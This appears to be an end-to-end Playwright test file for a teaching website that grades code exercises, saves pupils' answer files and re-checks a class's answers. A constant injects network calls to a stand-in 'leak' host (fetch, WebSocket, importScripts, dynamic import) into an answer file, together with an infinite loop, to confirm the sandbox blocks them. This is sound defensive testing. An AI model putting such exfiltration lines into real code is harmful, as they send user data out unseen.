import { readFile } from 'node:fs/promises';
import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { readAnswers } from '#site/teach/answers/answersFile.ts';
import { chaptersWithExercises } from '#test/support/chapters.ts';
import { launchChromium } from '#test/support/chromium.ts';
import type { TestServer } from '#test/support/serve.ts';
import { classOf30 } from '#test/unit/site/teach/classOf30.ts';
import { violations } from './axe.ts';
import { OFFLINE, openPage, serveSite } from './visit.ts';

let server: TestServer;
let browser: Browser;
beforeAll(async () => {
  server = await serveSite({ isolated: true });
  browser = await launchChromium('noAdapter', OFFLINE);
});
afterAll(async () => {
  await browser.close();
  await server.close();
});

/** Asks for the network in all ways that a worker has; this page would report it. */
const NETWORK = [
  'fetch("https://example.org/leak").catch(() => 0)',
  'try { new WebSocket("wss://example.org/leak") } catch {}',
  'try { importScripts("https://example.org/leak.js") } catch {}',
  'import("https://example.org/leak.js").catch(() => 0)',
  '(() => {}).constructor("import(\'https://example.org/leak.js\').catch(() => 0)")()',
]
  .map((line) => `${line.replaceAll('"', '\\"')};\\n`)
  .join('');

it('an answer is judged on a sheet, kept, handed in, and the class checked again', async () => {
  const chapters = await chaptersWithExercises();
  const solution = chapters.find(({ slug }) => slug === 'ccff')?.exercises['upsample2'];
  const visit = await openPage(browser, server, {
    query: 'sheet/?exercises=ccff.upsample2,losses.giou&hide=lines',
    expected: /Content Security Policy|content security policy/,
    context: { viewport: { width: 1280, height: 720 }, reducedMotion: 'reduce' },
  });
  const { page } = visit;
  const cell = page.locator('.onSheet live-cell').first();
  const verdict = cell.locator('.verdict');
  await cell.getByRole('button', { name: 'Edit upsample2' }).click();
  await cell.locator('.cm-content').fill('function upsample2(map) { return map }');
  await cell.getByRole('button', { name: 'Run upsample2' }).click();
  await expect.poll(() => cell.getAttribute('data-verdict')).toBe('fail');
  await cell.locator('.cm-content').fill(solution?.solution ?? '');
  await cell.locator('.cm-content').press('Control+Enter');
  await expect.poll(() => cell.getAttribute('data-verdict')).toBe('pass');
  expect(await violations(page)).toEqual([]);
  await page.getByLabel(/Name or number/).fill('Ada 7');
  const [handedIn] = await Promise.all([
    page.waitForEvent('download'),
    page.getByRole('button', { name: 'Save as a file' }).click(),
  ]);
  expect(handedIn.suggestedFilename()).toBe('Ada-7.answers.json');
  const ada = await readFile(await handedIn.path(), 'utf8');
  expect(readAnswers(ada)).toMatchObject({
    name: 'Ada 7',
    answers: { 'ccff.upsample2': { attempts: 2, verdict: { ok: true } } },
  });
  await page.reload();
  await expect.poll(() => verdict.textContent()).toMatch(/it passed\. Press Run/);
  expect(await cell.locator('pre').first().textContent()).toContain('flatMap');

  // In its chapter the same answer is shown, without running, and marked in the contents.
  await page.goto(`${server.url}ccff/`);
  const inChapter = page.locator('live-cell[data-exercise="upsample2"]');
  await page.locator('#contents summary').click();
  await expect
    .poll(() => page.locator('#contents .progress').allTextContents())
    .toEqual(['1 of 2 solved']);
  await page.keyboard.press('Escape');
  await inChapter.scrollIntoViewIfNeeded();
  await expect
    .poll(() => inChapter.locator('.cm-content').innerText())
    .toContain('flatMap');
  expect(await inChapter.getAttribute('data-verdict')).toBe('untried');

  await page.goto(`${server.url}teach/`);
  expect(await violations(page)).toEqual([]);
  await page.getByRole('link', { name: 'Answers of a class' }).click();
  const pupils = classOf30(chapters);
  const files = [
    ...pupils.map(({ file, text }) => ({ name: file, text })),
    { name: 'Ada-7.answers.json', text: ada },
    // What holds a machine up: in a loop that is guarded, and in one that nothing guards.
    {
      name: 'loop.answers.json',
      text: ada.replace(/"code": ".*?"/, '"code": "for (;;) {}"'),
    },
    { name: 'network.answers.json', text: ada.replace(/"code": "/, `"code": "${NETWORK}`) },
    { name: 'large.answers.json', text: 'x'.repeat(2_000_001) },
  ];
  await page.locator('#files').setInputFiles(
    files.map(({ name, text }) => ({
      name,
      mimeType: 'application/json',
      buffer: Buffer.from(text),
    })),
  );
  const notice = page.locator('#notice');
  await expect.poll(() => notice.textContent()).toMatch(/^34 files opened, 4 of which/);
  expect(await page.locator('.classTable .claimed').count()).toBe(0);
  await page.getByRole('button', { name: 'Check all again' }).click();
  await expect
    .poll(() => notice.textContent(), { timeout: 60_000 })
    .toMatch(/answers checked again/);
  const readable = pupils.filter(({ isReadable }) => isReadable);
  const tampered = readable.flatMap((pupil) => pupil.tampered);
  expect(await page.locator('.classTable .claimed').count()).toBe(tampered.length);
  // Their files say right, and the texts do not even run: the loop, and what asks for the network.
  expect(await page.locator('.classTable .open').count()).toBe(2);
  expect(await page.locator('.classTable .denied').count()).toBe(0);
  await page.locator('.classTable .claimed button').first().click();
  expect(await page.locator('.classTable .more').innerText()).toMatch(/The check:/);
  expect(await violations(page)).toEqual([]);

  const [csv] = await Promise.all([
    page.waitForEvent('download'),
    page.getByRole('button', { name: 'Save as CSV' }).click(),
  ]);
  const table = await readFile(await csv.path(), 'utf8');
  expect(table.split('\r\n')).toHaveLength(files.length + 2);
  expect(table.match(/the file says right, the check says wrong/g)).toHaveLength(
    tampered.length,
  );
  // No frame and no worker stays behind.
  expect(page.frames()).toHaveLength(1);
  await visit.close();
});

it('a lesson is done as homework without what its link hides, and stands in the table', async () => {
  const chapters = await chaptersWithExercises();
  const solution = chapters.find(({ slug }) => slug === 'set-prediction')?.exercises['nms'];
  const visit = await openPage(browser, server, {
    query: 'set-prediction/?lesson=why-no-nms:11:homework&hide=code,solutions,controls,all',
    context: { viewport: { width: 1280, height: 720 }, reducedMotion: 'reduce' },
  });
  const { page } = visit;
  const card = page.getByRole('complementary', { name: 'Homework' });
  const line = card.locator('.progressLine');
  await card.getByLabel(/^What happens to the boxes/).fill('Things get several boxes.');
  expect(await card.locator('details').count()).toBe(0);
  expect(await card.innerText()).not.toContain('The proof');
  await card.getByRole('button', { name: 'Go on' }).click();
  await page.waitForURL(/lesson=why-no-nms%3A12%3Ahomework/);
  expect(new URL(page.url()).searchParams.get('hide')).toBe('controls,solutions,code');
  await expect
    .poll(() => line.textContent())
    .toMatch(/^1 of \d+ questions answered, 0 of 1/);

  // The exercise keeps its code; all other code, the solution and every control are out of reach.
  const cell = page.locator('live-cell[data-exercise="nms"]');
  await cell.getByRole('button', { name: 'Edit nms' }).click();
  await cell.locator('.cm-content').fill(solution?.solution ?? '');
  await cell.getByRole('button', { name: 'Run nms' }).click();
  await expect
    .poll(() => cell.getAttribute('data-verdict'), { timeout: 60_000 })
    .toBe('pass');
  await expect.poll(() => line.textContent()).toMatch(/1 of 1 exercises solved/);
  const hidden = page.locator(
    'live-cell:not([data-exercise]) .cellCode, #code, .solutionButton, .output form',
  );
  expect(await hidden.count()).toBeGreaterThan(5);
  expect(await hidden.filter({ visible: true }).count()).toBe(0);
  const next = page.locator('.onward a[rel="next"]');
  await next.focus();
  expect(await next.getAttribute('href')).toMatch(/hide=controls%2Csolutions%2Ccode/);
  expect(await violations(page)).toEqual([]);

  await card.getByLabel(/Name or number/).fill('Ben');
  const [handedIn] = await Promise.all([
    page.waitForEvent('download'),
    card.getByRole('button', { name: 'Save as a file' }).click(),
  ]);
  const ben = await readFile(await handedIn.path(), 'utf8');
  expect(readAnswers(ben).answers).toMatchObject({
    'lesson-why-no-nms.v11q1': { code: 'Things get several boxes.', verdict: null },
    'set-prediction.nms': { verdict: { ok: true } },
  });
  await page.goto(`${server.url}teach/answers/`);
  await page.locator('#files').setInputFiles({
    ...{ name: 'Ben.answers.json', mimeType: 'application/json' },
    buffer: Buffer.from(ben),
  });
  await page.locator('.classTable .words button').click();
  expect(await page.locator('.classTable .more').innerText()).toContain(
    'Things get several boxes.',
  );
  expect(await page.locator('.classTable .sum').innerText()).toBe('1 of 1');
  expect(await violations(page)).toEqual([]);
  await visit.close();
});
